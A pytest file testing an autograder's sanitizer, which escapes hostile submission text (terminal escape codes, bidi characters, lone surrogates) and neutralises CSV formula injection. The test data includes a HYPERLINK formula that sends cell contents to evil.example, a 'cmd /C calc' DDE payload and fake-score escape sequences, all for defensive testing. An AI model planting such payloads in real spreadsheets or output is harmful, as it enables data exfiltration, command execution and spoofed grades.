"""Hostile text (issue 7): escape sequences and invalid Unicode from a submission never
reach results.json, grades.csv, report.html or the instructor's terminal."""

import json
import os
import re

import pytest

from autograder import batch, class_report, cli, config, results, runner, sanitize

FAKE_TOTAL = "\x1b[32mTOTAL 100.00\x1b[0m"
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")  # what must never get out


@pytest.mark.parametrize("text, shown", [
    ("\x1b[31mred", "\\x1b[31mred"),
    ("a\x00b", "a\\x00b"),
    ("\x9b2J", "\\x9b2J"),          # C1 CSI, the one-byte form of ESC [
    ("del\x7f", "del\\x7f"),
    ("a\ud800b", "a\ufffdb"),       # lone surrogate
    ("a\r\nb\rc", "a\nb\nc"),
    ("Café naïve 😀 ✗\n\tdone", "Café naïve 😀 ✗\n\tdone"),
    (3.5, "3.5"),
])
def test_clean(text, shown):
    assert sanitize.clean(text) == shown
    assert sanitize.clean(shown) == shown


@pytest.mark.parametrize("char", ["\u202a", "\u202e", "\u2066", "\u2069", "\u200b", "\u200f",
                                  "\u2060", "\u2064", "\ufeff", "\u061c"])
def test_bidirectional_and_zero_width_characters_are_shown_escaped(char):
    shown = sanitize.clean(f"score{char}001")
    assert shown == f"score\\u{ord(char):04x}001" and char not in shown
    assert sanitize.clean(shown) == shown


@pytest.mark.parametrize("text, cell", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),              # a carriage return, then cleaned
    ("\x1b[2J=1", "\\x1b[2J=1"),        # escaped, so no longer a formula's start
    ("Ann O'Neil", "Ann O'Neil"),
    ("-5", "-5"), ("+2.5e3", "+2.5e3"),  # a number, as a spreadsheet reads it
    (-5.0, -5.0), (3, 3), (True, True), (None, None),
])
def test_a_csv_cell_is_never_a_formula_and_numbers_stay_numbers(text, cell):
    assert sanitize.csv_cell(text) == cell


def test_clean_tree_cleans_keys_and_values_and_keeps_numbers():
    tree = {"k\x1b": ["\ud800", 1, 2.5, None, True, {"x": "\x00"}]}
    assert sanitize.clean_tree(tree) == {"k\\x1b": ["\ufffd", 1, 2.5, None, True, {"x": "\\x00"}]}


def strings(value):
    """Every string in a JSON-like value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def hostile_document():
    """A graded submission whose test name, exception message and prints are hostile."""
    row = results.Row("test_softmax\x1b[2K", 0.0, 5.0, ["losses.softmax"],
                      output=f"ValueError: {FAKE_TOTAL}\ud800\n\nYour code printed:\n{FAKE_TOTAL}")
    return results.build([row], None, summary=f"summary {FAKE_TOTAL}\ud800")


def test_results_json_is_strict_utf8_and_free_of_escapes(tmp_path):
    path = tmp_path / "results.json"
    results.write_atomic(path, hostile_document())
    text = path.read_bytes().decode("utf-8")  # strict
    assert "\x1b" not in text
    document = json.loads(text)
    for value in strings(document):
        assert not RAW.search(value), value
    assert "\\x1b[32mTOTAL 100.00" in document["tests"][0]["output"]
    json.dumps(document, ensure_ascii=False).encode("utf-8")  # a strict consumer's view


def test_the_terminal_table_shows_no_escape_sequence():
    text = results.table(hostile_document(), "Optimization: submission")
    assert not RAW.search(text)
    assert "\\x1b[32mTOTAL 100.00" in text


def test_grade_prints_a_hostile_folder_name_harmlessly(tmp_path, monkeypatch, capsys):
    folder = os.fsdecode(os.fsencode(tmp_path) + b"/sub\x1b[2J\xff")  # not UTF-8 either
    os.mkdir(folder)
    monkeypatch.setattr(runner, "grade", lambda *args, **kwargs: hostile_document())
    assert cli.main(["grade", "song_contest", folder, "--out", str(tmp_path / "r.json")]) == 0
    out = capsys.readouterr().out
    assert not RAW.search(out)
    assert "sub\\x1b[2J\ufffd" in out and "TOTAL" in out


def test_a_hostile_error_line_is_printed_harmlessly(tmp_path, capsys):
    missing = str(tmp_path / f"missing{FAKE_TOTAL}")
    assert cli.main(["grade", "song_contest", missing]) == 2
    err = capsys.readouterr().err
    assert not RAW.search(err) and "missing\\x1b[32mTOTAL" in err


def test_grades_csv_and_report_html_are_free_of_escapes(tmp_path):
    metadata = {"users": [{"name": "Eve \x1b[8m\ud800", "email": "eve@example.com"}]}
    document = hostile_document()
    rows = [*batch.grade_rows("sub\x1b[2J", document, metadata),
            *batch.grade_rows("broken", f"ValueError: {FAKE_TOTAL}", None)]
    results.write_csv(tmp_path / "grades.csv", rows)
    grades = (tmp_path / "grades.csv").read_bytes().decode("utf-8").replace("\r\n", "\n")
    (tmp_path / "results").mkdir()
    page = class_report.write(tmp_path, config.load("song_contest"), rows,
                              {"sub\x1b[2J": document}).read_text(encoding="utf-8")
    one = (tmp_path / "results" / "sub\x1b[2J.html").read_text(encoding="utf-8")
    assert not RAW.search(one) and "ValueError: \\x1b[32mTOTAL" in one
    for text in grades, page:
        assert not RAW.search(text)
        assert "Eve \\x1b[8m\ufffd" in text and "ValueError: \\x1b[32mTOTAL" in text
